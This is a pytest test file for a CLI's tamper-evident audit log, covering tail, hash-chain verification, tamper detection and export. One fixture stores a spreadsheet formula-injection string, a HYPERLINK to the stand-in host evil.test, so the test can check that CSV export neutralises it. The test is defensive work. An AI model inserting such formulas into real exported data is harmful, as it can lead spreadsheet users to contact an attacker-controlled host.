"""`charter audit`: the trail as a table, and a verification that names the broken entry."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from sqlalchemy import delete

from charter.auth.audit import AuditLog, audit_chain_table
from charter.auth.home import CharterHome
from charter.cli.context import Local
from charter.cli.main import main

if TYPE_CHECKING:
    from conftest import Run


@pytest.fixture
def trail(local_home: Local) -> Local:
    log = local_home.audit
    log.record(
        actor="person", subject="mona", action="grant.issue", outcome="ok", agent="bot", grant_id="grt_1"
    )
    for n in range(1, 4):
        log.record(actor="agent", subject="mona", action=f"github_get_issue_{n}", outcome="ok", agent="bot",
                   grant_id="grt_1", args={"n": n}, decision="allow")  # fmt: skip
    return local_home


def test_tail_shows_the_latest_entries_oldest_first(run: Run, trail: Local) -> None:
    ran = run("audit", "tail", "-n", "2")
    assert ran.code == 0, ran.err
    assert "github_get_issue_2" in ran.out
    assert "github_get_issue_3" in ran.out
    assert ran.out.index("github_get_issue_2") < ran.out.index("github_get_issue_3")
    assert "grant.issue" not in ran.out
    assert "person mona" in run("audit", "tail").text


def test_verify_reports_an_intact_chain(run: Run, trail: Local) -> None:
    ran = run("audit", "verify")
    assert ran.code == 0, ran.err
    assert "chain intact: 4 entries" in ran.text


def test_verify_fails_naming_the_entry_edited_by_hand(run: Run, trail: Local) -> None:
    path = trail.home.audit_file
    lines = path.read_text().splitlines()
    entry = json.loads(lines[2])
    entry["outcome"] = "denied"
    lines[2] = json.dumps(entry, sort_keys=True, separators=(",", ":"))
    path.write_text("\n".join(lines) + "\n")

    ran = run("audit", "verify")
    assert ran.code == 1
    assert ran.out == ""
    assert ran.err.startswith("error[audit_broken]: ")
    assert "seq 3" in ran.err
    assert "edited" in ran.err
    assert ran.err.count("\n") == 1


def test_verify_fails_when_an_entry_is_deleted(run: Run, trail: Local) -> None:
    path = trail.home.audit_file
    lines = path.read_text().splitlines()
    path.write_text("\n".join(lines[:1] + lines[2:]) + "\n")
    ran = run("audit", "verify")
    assert ran.code == 1
    assert "seq 2" in ran.err


def test_an_empty_log_says_so(run: Run) -> None:
    ran = run("audit", "tail")
    assert ran.code == 0
    assert "The audit log is empty" in ran.text
    assert "chain intact: 0 entries" in run("audit", "verify").text


def test_tail_as_json_gives_the_entries_as_stored(run: Run, trail: Local) -> None:
    ran = run("audit", "tail", "-n", "2", "--json")
    assert ran.code == 0, ran.err
    entries = json.loads(ran.out)
    assert [e["seq"] for e in entries] == [3, 4]
    assert [e["hash"] for e in entries] == [e.hash for e in trail.audit.tail(2)]


@pytest.fixture
def dated(local_home: Local) -> Local:
    """Entries an hour apart, from 2026-12-01T08:00Z, one with a reason a spreadsheet would run."""
    from datetime import UTC, datetime, timedelta

    times = iter(datetime(2026, 12, 1, 8, tzinfo=UTC) + timedelta(hours=h) for h in range(5))
    log = AuditLog(local_home.home, clock=lambda: next(times))
    for n in range(5):
        reasons = (f'=HYPERLINK("http://evil.test/?{n}","open")', "plain, with a comma")
        log.record(actor="agent", subject="mona", action=f"call_{n}", outcome="denied", reasons=reasons)
    return local_home


def test_export_gives_a_time_range_as_json_lines(run: Run, dated: Local) -> None:
    ran = run("audit", "export", "--since", "2026-12-01T09:00", "--until", "2026-12-01T11:00:00+00:00")
    assert ran.code == 0, ran.err
    assert [json.loads(line)["action"] for line in ran.out.splitlines()] == ["call_1", "call_2"]
    stored = dated.home.audit_file.read_text().splitlines()
    assert ran.out.splitlines() == stored[1:3]  # byte for byte, so each line's hash still checks


def test_export_as_csv_quotes_what_a_spreadsheet_would_run(run: Run, dated: Local, tmp_path: Path) -> None:
    out = tmp_path / "audit.csv"
    ran = run("audit", "export", "--format", "csv", "--since", "2026-12-01T12:00+02:00", "-o", str(out))
    assert ran.code == 0, ran.err
    rows = list(csv.DictReader(out.open()))
    assert [r["action"] for r in rows] == ["call_2", "call_3", "call_4"]
    assert rows[0]["reasons"].startswith("'=HYPERLINK(")
    assert rows[0]["reasons"].endswith("| plain, with a comma")
    assert rows[0]["seq"] == "3"


def test_export_with_an_unreadable_time_is_a_usage_error(run: Run, dated: Local) -> None:
    ran = run("audit", "export", "--since", "last tuesday")
    assert ran.code == 1
    assert ran.err.startswith("error[usage_error]: ")
    assert "2026-12-03T09:30" in ran.err


def test_export_of_a_log_with_a_foreign_line_is_a_typed_error(run: Run, dated: Local) -> None:
    with dated.home.audit_file.open("a") as f:
        f.write("not an entry\n")
    ran = run("audit", "export")
    assert ran.code == 1
    assert ran.err.startswith("error[audit_broken]: ")
    assert ran.out == ""  # nothing half-written


def test_a_copied_home_verifies_and_carries_on(
    trail: Local, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    backup = tmp_path / "backup"
    shutil.copytree(trail.home.path, backup)
    capsys.readouterr()
    assert main(["--home", str(backup), "audit", "verify"]) == 0
    assert "chain intact: 4 entries" in capsys.readouterr().out
    AuditLog(CharterHome(backup)).record(actor="person", subject="mona", action="grant.revoke", outcome="ok")
    assert main(["--home", str(backup), "audit", "verify"]) == 0
    assert "chain intact: 5 entries" in capsys.readouterr().out


def test_verify_against_a_sink_catches_a_rewritten_home(
    run: Run, local_home: Local, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sink = tmp_path / "sink.jsonl"
    monkeypatch.setenv("CHARTER_AUDIT_SINKS", f"file:{sink}")
    log = AuditLog(local_home.home)
    for n in range(3):
        log.record(actor="agent", subject="mona", action=f"call_{n}", outcome="ok")
    ran = run("audit", "verify", "--against", str(sink))
    assert ran.code == 0, ran.err
    # Rich folds a path longer than the captured stream's 80 columns: compare without the folds.
    assert f"chainintact:3entries,matchingwhatleftthrough{sink}" in "".join(ran.out.split())

    # Cut the last entry from the file and from the database: the local chain is consistent again.
    lines = local_home.home.audit_file.read_text().splitlines()
    local_home.home.audit_file.write_text(lines[0] + "\n" + lines[1] + "\n")
    with local_home.home.engine.begin() as conn:
        conn.execute(delete(audit_chain_table).where(audit_chain_table.c.seq == 3))
    assert run("audit", "verify").code == 0
    ran = run("audit", "verify", "--against", f"file:{sink}")
    assert ran.code == 1
    assert ran.err.startswith("error[audit_broken]: ")
    assert "ends at seq 2" in ran.err
